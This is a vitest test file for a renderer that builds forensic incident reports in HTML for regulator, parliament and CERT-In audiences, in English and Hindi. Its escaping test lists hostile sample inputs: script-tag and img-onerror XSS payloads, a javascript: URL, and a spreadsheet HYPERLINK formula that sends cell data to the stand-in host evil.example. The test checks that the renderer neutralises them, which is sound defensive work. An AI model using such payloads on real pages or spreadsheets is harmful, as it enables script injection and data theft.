import { describe, it, expect } from 'vitest';
import { renderPageTemplates, renderReportHtml, reportStrings, TEMPLATE_SECTIONS, type ReportFonts } from '../../../shared/report';
import { HOSTILE, sampleModel } from './sample-model';

const FONTS: ReportFonts = { latinRegular: 'AAAA', latinBold: 'AAAA', devanagariRegular: 'AAAA', devanagariBold: 'AAAA' };

/** The markup outside <style>, where data would appear. */
const bodyOf = (html: string): string => html.slice(html.indexOf('</head>'));

describe('renderReportHtml', () => {
  it('escapes every hostile value: no script, no event handler, no live link', () => {
    const html = renderReportHtml(sampleModel(), FONTS);
    const body = bodyOf(html);
    expect(body).not.toMatch(/<script/i);
    expect(body).not.toMatch(/<img/i);
    expect(body).not.toMatch(/<a[\s>]/i);
    // No element carries a URL or an event handler (the escaped text may mention them).
    expect(body).not.toMatch(/<[a-z][^>]*\s(?:src|href|on[a-z]+)\s*=/i);
    expect(body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(body).toContain('&lt;img src=x onerror=alert(2)&gt;');
    expect(body).toContain('javascript:alert(3)');
    expect(body).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)');
    for (const h of HOSTILE.filter((x) => /[<"]/.test(x))) expect(body).not.toContain(h);
  });

  it('forbids scripts and remote loads in the page itself', () => {
    const html = renderReportHtml(sampleModel(), FONTS);
    expect(html).toContain('content="default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;; font-src data:; img-src data:"');
  });

  it('is pure: the same model renders to the same bytes', () => {
    expect(renderReportHtml(sampleModel('parliament', 'hi'), FONTS)).toBe(renderReportHtml(sampleModel('parliament', 'hi'), FONTS));
  });

  it('prints hashes, the Merkle root, the signature and the key fingerprint', () => {
    const m = sampleModel();
    const html = renderReportHtml(m, FONTS);
    for (const e of m.evidence) expect(html).toContain(e.sha256);
    expect(html).toContain(m.custody.merkleRoot!);
    expect(html).toContain(m.custody.checkpoint!.signature);
    expect(html).toContain(m.examiner.keyFingerprint);
  });

  it('orders sections for each audience and titles the report for it', () => {
    const heads = (t: 'regulator' | 'parliament' | 'cert-in') =>
      [...renderReportHtml(sampleModel(t), FONTS).matchAll(/<h2>([^<]*)<\/h2>/g)].map((x) => x[1]!);
    const s = reportStrings('en').sections;
    expect(heads('parliament')[0]).toBe(s.plainSummary);
    expect(heads('cert-in')[0]).toBe(s.incident);
    expect(heads('regulator').slice(0, 2)).toEqual([s.summary, s.personalData]);
    expect(heads('regulator')).toContain(`Annex A: ${s.annexC}`);
    expect(heads('cert-in').some((h) => h.includes(s.annexB))).toBe(false);
    for (const t of ['regulator', 'parliament', 'cert-in'] as const) {
      expect(renderReportHtml(sampleModel(t), FONTS)).toContain(`<h1>${reportStrings('en').title[t]}</h1>`);
      expect(TEMPLATE_SECTIONS[t]).toContain('custody');
    }
  });

  it('writes Hindi reports in Hindi, numbers with lakh and crore', () => {
    const html = renderReportHtml(sampleModel('regulator', 'hi'), FONTS);
    expect(html).toContain('<html lang="hi">');
    expect(html).toContain('कार्यकारी सारांश');
    expect(html).toContain('15,00,000 (15 लाख)');
    expect(html).toContain('4,52,00,000 (4.5 करोड़)');
    expect(html).toContain('नवंबर 2026');
  });

  it('marks what the case does not know as to be completed', () => {
    const html = renderReportHtml(sampleModel('regulator'), FONTS);
    expect(html).toContain('[to be completed]');
  });

  it('puts "Page X of Y" and an escaped title in the page footer and header', () => {
    const m = sampleModel();
    m.case.ref = HOSTILE[0]!;
    const t = renderPageTemplates(m, FONTS);
    expect(t.footerTemplate).toContain('Page <span class="pageNumber"></span> of <span class="totalPages"></span>');
    expect(t.footerTemplate).not.toContain("<script");
    expect(t.footerTemplate).toContain("&lt;script&gt;");
    expect(renderPageTemplates(sampleModel('regulator', 'hi'), FONTS).footerTemplate).toContain('पृष्ठ <span class="pageNumber"></span>');
  });
});
